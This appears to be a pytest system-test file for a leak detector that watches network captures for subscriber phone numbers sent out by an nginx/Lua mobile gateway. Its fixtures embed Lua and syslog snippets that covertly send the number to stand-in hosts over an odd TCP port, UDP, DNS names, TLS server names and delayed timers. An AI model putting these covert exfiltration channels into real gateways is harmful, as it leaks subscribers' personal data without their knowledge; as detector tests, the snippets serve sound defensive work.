"""What crosses the cable to the outside is seen, whatever protocol and port it takes; and a gateway
that does the same things without a number is left alone."""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from tests.system.runs import DEFAULTS, POLICY

from headgate.candidate import load_candidate
from headgate.disclosure import LEAK, Disclosure
from headgate.engines.docker_engine import DockerEngine
from headgate.errors import NotJudged
from headgate.gate.gate import Gate
from headgate.gate.session import Session
from headgate.gate.visit import Visit
from headgate.lab.lab import Lab
from headgate.policy import load_policy

REQUESTS = 24

CONFIG = """
user www-data;
worker_processes 2;
pid /run/nginx.pid;
error_log stderr crit;
include /etc/nginx/modules-enabled/*.conf;
events {{ worker_connections 1024; }}
http {{
    access_log off;
    resolver 198.18.0.2 ipv6=off;
    map $consent $agreed {{ default ""; yes $number; }}
    map $host $shown {{ default ""; premium.example $agreed; }}
    log_format visits "{word} $host";
    init_by_lua_block {{
        function told(store, number) {store} end
        function tell(number) {tell} end
    }}
    server {{
        listen 8080;
        listen 80;
        set $number "";
        set $consent "";
        {log}
        location / {{
            access_by_lua_block {{
                local store = require("resty.redis"):new()
                store:set_timeout(800)
                assert(store:connect("192.0.2.10", 6379))
                local row = store:hmget("session:" .. ngx.var.remote_addr, "msisdn", "consent")
                local number = row[1] ~= ngx.null and row[1] or ""
                ngx.var.number = number
                ngx.var.consent = row[2] ~= ngx.null and row[2] or ""
                told(store, {argument})
                store:set_keepalive(30000, 64)
                tell({argument})
            }}
            proxy_http_version 1.1;
            proxy_set_header Host $http_host;
            proxy_set_header x-up-calling-line-id $shown;
            proxy_pass http://$http_host$request_uri;
        }}
    }}
}}
"""

STORELESS = """
user www-data;
worker_processes 2;
pid /run/nginx.pid;
error_log stderr crit;
include /etc/nginx/modules-enabled/*.conf;
events {{ worker_connections 1024; }}
http {{
    access_log off;
    resolver 198.18.0.2 ipv6=off;
    init_by_lua_block {{
        function tell(number) {tell} end
    }}
    server {{
        listen 8080;
        listen 80;
        location / {{
            access_by_lua_block {{ tell(ngx.var.http_x_core_msisdn or "") }}
            proxy_set_header Host $http_host;
            proxy_set_header x-core-msisdn "";
            proxy_pass http://$http_host$request_uri;
        }}
    }}
}}
"""

# A collector that speaks no HTTP, at an odd port.
TELL_A_COLLECTOR = """
    local socket = ngx.socket.tcp()
    socket:settimeout(800)
    if socket:connect("203.0.113.40", 4444) then
        socket:send({"\\1\\2", string.char(#number), number, "\\n"})
        socket:close()
    end
"""
# In two writes, a moment apart, so that it is two segments.
TELL_IN_TWO_WRITES = """
    local socket = ngx.socket.tcp()
    socket:settimeout(800)
    if socket:connect("203.0.113.40", 4444) then
        socket:send("visit by " .. number:sub(1, 6))
        ngx.sleep(0.02)
        socket:send(number:sub(7) .. "\\n")
        socket:close()
    end
"""
TELL_THE_RESOLVER = """
    local socket = ngx.socket.tcp()
    socket:settimeout(800)
    socket:connect("n" .. number .. ".visits.example", 80)
    socket:close()
"""
# It says something under TLS: of a client that says nothing, nobody knows whether it would have.
TELL_IN_A_SERVER_NAME = """
    local socket = ngx.socket.tcp()
    socket:settimeout(800)
    if socket:connect("203.0.113.40", 8443) then
        socket:sslhandshake(nil, "n" .. number .. ".visits.example", false)
        socket:send("GET /visit HTTP/1.0\\r\\n\\r\\n")
        socket:close()
    end
"""
TELL_IN_DATAGRAMS = """
    local socket = ngx.socket.udp()
    socket:setpeername("203.0.113.40", 5140)
    socket:send("visit by " .. number:sub(1, 6))
    socket:send(number:sub(7))
    socket:close()
"""
SYSLOG = "access_log syslog:server=203.0.113.5:514 visits;"
# Nobody in the world is a member of this group: the cable alone has seen the datagram.
SYSLOG_TO_A_GROUP = "access_log syslog:server=239.1.2.3:514 visits;"

WAYS: Mapping[str, tuple[Mapping[str, str], str, str]] = {
    "syslog": ({"log": SYSLOG}, "203.0.113.5:514", "datagram"),
    "syslog-to-a-group": (
        {"log": SYSLOG_TO_A_GROUP}, "239.1.2.3:514", "UDP datagram to port 514"
    ),
    "odd-port": ({"tell": TELL_A_COLLECTOR}, "203.0.113.40:4444", "request line"),
    "two-writes": ({"tell": TELL_IN_TWO_WRITES}, "203.0.113.40:4444", "request line"),
    "two-datagrams": (
        {"tell": TELL_IN_DATAGRAMS}, "203.0.113.40:5140", "UDP datagram to port 5140"
    ),
    "host-name": ({"tell": TELL_THE_RESOLVER}, "the name resolver", "host name in a query"),
    "server-name": ({"tell": TELL_IN_A_SERVER_NAME}, "203.0.113.40:8443", "TLS ClientHello"),
    "set": ({"store": 'store:set("last", number)'}, "the session store", "TCP stream to port 6379"),
    "publish": (
        {"store": 'store:publish("visits", number)'}, "the session store", "TCP stream to port 6379"
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def session() -> Iterator[Session]:
    with Session(load_policy(POLICY), DockerEngine, seed="what crosses") as session:
        yield session


def config_of(parts: Mapping[str, str], *, tells: bool) -> str:
    """A gateway that does these things, with the subscriber's number or with the handset's port."""
    words = {"word": "$number", "argument": "number"}
    if not tells:
        words = {"word": "$remote_port", "argument": "ngx.var.remote_port"}
    return CONFIG.format(**{"store": "", "tell": "", "log": "", **words, **parts})


def crossed(session: Session, folder: Path, config: str) -> tuple[Gate, Visit]:
    """A small day of a gateway with this config, and what crossed on it."""
    (folder / "nginx.conf").write_text(config)
    with session.gate(load_candidate(folder, DEFAULTS)) as gate:
        gate.visit("permitted", "ordinary", by=gate.agreed, most=REQUESTS)
        return gate, gate.crossed()


@pytest.mark.parametrize("way", WAYS)
def test_a_number_that_crosses_is_a_leak(session: Session, tmp_path: Path, way: str) -> None:
    parts, site, where = WAYS[way]
    gate, _ = crossed(session, tmp_path, config_of(parts, tells=True))
    found = {(one.kind, one.site, one.where) for one in gate.record.disclosures}
    assert found == {(LEAK, site, where)}


def test_the_same_in_all_ways_without_a_number_is_none(session: Session, tmp_path: Path) -> None:
    ways = [parts for parts, _, _ in WAYS.values()]
    parts = {name: "\n".join(one.get(name, "") for one in ways) for name in ("log", "store")}
    parts["tell"] = "\n".join(f"do {one['tell']} end" for one in ways if "tell" in one)
    gate, _ = crossed(session, tmp_path, config_of(parts, tells=False))
    assert gate.record.disclosures == []
    assert gate.record.disclosed_rightly > 0


def test_what_a_receipt_has_told_is_not_told_again(session: Session, tmp_path: Path) -> None:
    gate, visit = crossed(session, tmp_path, config_of({"log": SYSLOG}, tells=True))
    assert visit.disclosures == []
    told = [(one.address, one.subscriber, one.form) for one in gate.record.disclosures]
    assert len(told) > 0


def test_all_of_a_gateways_ways_at_once_are_told_apart(session: Session, tmp_path: Path) -> None:
    parts = {"log": SYSLOG_TO_A_GROUP, "store": 'store:incr("visits:" .. number)'}
    _, visit = crossed(session, tmp_path, config_of(parts, tells=True))
    assert sites(visit.disclosures) == {"239.1.2.3:514", "the session store"}


def sites(disclosures: Iterable[Disclosure]) -> set[str]:
    return {one.site for one in disclosures}


def test_asking_the_store_by_number_is_no_leak(session: Session, tmp_path: Path) -> None:
    parts = {"store": 'store:get("partner:" .. number)'}
    gate, _ = crossed(session, tmp_path, config_of(parts, tells=True))
    assert gate.record.disclosures == []


def test_what_is_sent_at_the_very_end_is_seen(session: Session, tmp_path: Path) -> None:
    """The log is kept back for a minute, and sent when the gateway is told to end."""
    sent = """
        ngx.timer.at(60, function(ended)
            local socket = ngx.socket.udp()
            socket:setpeername("239.1.2.3", 514)
            socket:send(number)
        end)
    """
    _, visit = crossed(session, tmp_path, config_of({"tell": sent}, tells=True))
    assert sites(visit.disclosures) == {"239.1.2.3:514"}


def test_a_connection_without_a_receipt_is_not_judged(session: Session, tmp_path: Path) -> None:
    """As if the world had missed what came to one port: a store answers there, which gives none."""
    (tmp_path / "nginx.conf").write_text(STORELESS.format(tell=TELL_A_COLLECTOR))
    (tmp_path / "gateway.yaml").write_text(
        'sessions: {header: {name: x-core-msisdn, value: "{msisdn}"}}\n'
    )
    with session.gate(load_candidate(tmp_path, DEFAULTS)) as gate:
        lab_of(session)._world.call("store_at", port=4444, state="up")
        gate.visit("ordinary", by=gate.agreed, most=REQUESTS)
        with pytest.raises(NotJudged, match="without a receipt"):
            gate.crossed()


def test_a_recording_that_broke_off_is_not_judged(session: Session, tmp_path: Path) -> None:
    (tmp_path / "nginx.conf").write_text(config_of({}, tells=False))
    with session.gate(load_candidate(tmp_path, DEFAULTS)) as gate:
        gate.visit("ordinary", by=gate.agreed, most=REQUESTS)
        stop_tcpdump(lab_of(session))
        with pytest.raises(NotJudged, match="recording of the cable ended before the gateway did"):
            gate.crossed()


def test_a_cable_that_was_not_recorded_is_not_judged(session: Session, tmp_path: Path) -> None:
    (tmp_path / "nginx.conf").write_text(config_of({}, tells=False))
    with session.gate(load_candidate(tmp_path, DEFAULTS)) as gate:
        gate.visit("ordinary", by=gate.agreed, most=REQUESTS)
        lab_of(session)._world.call("forget")
        with pytest.raises(NotJudged, match="the cable was not recorded"):
            gate.crossed()


def test_what_was_seen_before_the_doubt_stays_seen(session: Session, tmp_path: Path) -> None:
    tell = TELL_IN_DATAGRAMS + TELL_A_COLLECTOR.replace("number", '"visit"')
    (tmp_path / "nginx.conf").write_text(STORELESS.format(tell=tell))
    (tmp_path / "gateway.yaml").write_text(
        'sessions: {header: {name: x-core-msisdn, value: "{msisdn}"}}\n'
    )
    with session.gate(load_candidate(tmp_path, DEFAULTS)) as gate:
        lab_of(session)._world.call("store_at", port=4444, state="up")
        gate.visit("ordinary", by=gate.agreed, most=REQUESTS)
        with pytest.raises(NotJudged):
            gate.crossed()
        assert sites(gate.record.disclosures) == {"203.0.113.40:5140"}


def lab_of(session: Session) -> Lab:
    return session._ground.result().lab


def stop_tcpdump(lab: Lab) -> None:
    """Kill it, and wait until it is gone."""
    pids = [one["pid"] for one in tcpdumps(lab)]
    for pid in pids:
        lab._cabler.call("kill", pid=pid)
    while tcpdumps(lab):
        pass
    assert pids


def tcpdumps(lab: Lab) -> list[dict[str, Any]]:
    found = lab._cabler.call("processes", pid=lab._world.pid)
    return [one for one in found if one["title"].startswith("tcpdump ") and one["state"] != "Z"]
